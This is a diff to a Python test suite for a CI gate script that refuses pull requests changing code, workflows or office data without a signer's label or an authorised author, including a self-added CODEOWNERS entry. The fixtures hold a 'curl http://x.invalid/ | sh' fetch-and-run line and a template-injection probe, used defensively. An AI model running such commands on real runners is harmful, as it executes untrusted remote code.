@@ -57,40 +57,65 @@ def test_pull_requests_never_reach_the_publishing_server():
 
 
 def _branch_changing(tmp_path, rel, text):
-    tree = copy_sample(tmp_path / "repo", extra=(".ci",))
+    tree = copy_sample(tmp_path / "repo", extra=(".ci", ".github"))
     tree.git("init", "-q", "-b", "main")
     tree.git("add", "-A")
     tree.git("commit", "-qm", "样例")
     tree.git("checkout", "-qb", "unit")
     tree.write(rel, text)
+    if rel != ".github/CODEOWNERS":  # a branch naming itself an owner gains nothing: the base's file counts
+        tree.write(".github/CODEOWNERS", open(os.path.join(tree.root, ".github/CODEOWNERS")).read() + "* @mallory\n")
     tree.git("add", "-A")
     tree.git("commit", "-qm", "改动")
     return tree
 
 
-def run_scope(tree, approved=None):
-    env = {k: v for k, v in os.environ.items() if k != "KANWU_CODE_APPROVED"}
-    if approved is not None:
-        env["KANWU_CODE_APPROVED"] = approved
+def run_scope(tree, approved=None, author=None):
+    env = {k: v for k, v in os.environ.items() if k not in ("KANWU_CODE_APPROVED", "KANWU_PR_AUTHOR")}
+    env |= {"KANWU_CODE_APPROVED": approved} if approved is not None else {}
+    env |= {"KANWU_PR_AUTHOR": author} if author is not None else {}
     return subprocess.run(["bash", ".ci/pr-scope", "main"], cwd=tree.root, capture_output=True, text=True, env=env)
 
 
 def test_a_unit_branch_changing_code_is_refused_before_it_runs(tmp_path):
-    """.ci/pr-scope, on a real branch: an item passes; a Makefile that would run on the runner, a
-    mkdocs.yml hook, a theme template or a 中文-named script are refused until a signer's label."""
-    tree = _branch_changing(tmp_path / "item", "content/items/2026/11/20261124-qingxi-01.md",
-                            GOOD_ITEM.replace("2026-11-03", "2026-11-24"))
-    result = run_scope(tree)
-    assert result.returncode == 0, result.stdout + result.stderr
+    """.ci/pr-scope, on a real branch: an item passes whoever wrote it; code (a Makefile that would run
+    on the runner, a mkdocs.yml hook, a theme template, a 中文-named script, the workflow itself) only
+    with a signer's label; the office's data (issues, settings, help) only from the office's people."""
+    item = "content/items/2026/11/20261124-qingxi-01.md"
+    tree = _branch_changing(tmp_path / "item", item, GOOD_ITEM.replace("2026-11-03", "2026-11-24"))
+    tree.git("checkout", "-q", "main")
+    tree.git("checkout", "-qb", "only-item")
+    tree.write(item, GOOD_ITEM.replace("2026-11-03", "2026-11-24"))
+    tree.git("add", "-A")
+    tree.git("commit", "-qm", "报送")
+    result = run_scope(tree, author="qingxi-xxy")
+    assert result.returncode == 0 and "稿件和图片" in result.stdout, result.stdout + result.stderr
     for rel, text in (("Makefile", "setup:\n\tcurl http://x.invalid/ | sh\n"), ("mkdocs.yml", "hooks: [evil.py]\n"),
                       ("theme/overrides/main.html", "{{ 7*7 }}"), ("scripts/新脚本.sh", "echo 1\n"),
                       (".github/workflows/review.yml", "on: push\n")):
         tree = _branch_changing(tmp_path / rel.replace("/", "_"), rel, text)
-        result = run_scope(tree)
+        result = run_scope(tree, author="zhouzhengping")  # not even a signer's own branch runs unread code
         assert result.returncode == 1, rel
         assert "程序或构建设置" in result.stdout and rel in result.stdout and "kanwu-code-approved" in result.stdout
         assert run_scope(tree, approved="false").returncode == 1
         assert run_scope(tree, approved="true").returncode == 0
+    for rel in ("issues/daily/2026/213.yml", "content/kanwu.yml", "content/help/submit.md"):
+        tree = _branch_changing(tmp_path / rel.replace("/", "_"), rel, "x: 1\n")
+        tree.git("checkout", "-q", "main")  # the same change without touching CODEOWNERS
+        tree.git("checkout", "-qb", "data")
+        tree.write(rel, "x: 1\n")
+        tree.git("add", "-A")
+        tree.git("commit", "-qm", "改动")
+        for author in ("mallory", None):
+            result = run_scope(tree, author=author)
+            assert result.returncode == 1 and "信息科的人员" in result.stdout and rel in result.stdout, (rel, author)
+        assert run_scope(tree, author="zhouzhengping").returncode == 0  # a signer (CODEOWNERS on main)
+        assert run_scope(tree, author="linyutong").returncode == 0  # an editor
+        assert run_scope(tree, author="mallory", approved="true").returncode == 0
+    # naming oneself an owner on the branch gains nothing: main's CODEOWNERS counts
+    tree = _branch_changing(tmp_path / "self", "content/units.yml", "units: []\n")
+    result = run_scope(tree, author="mallory")
+    assert result.returncode == 1 and "信息科的人员" in result.stdout and "content/units.yml" in result.stdout
 
 
 def pr_repo(tmp_path) -> Tree:
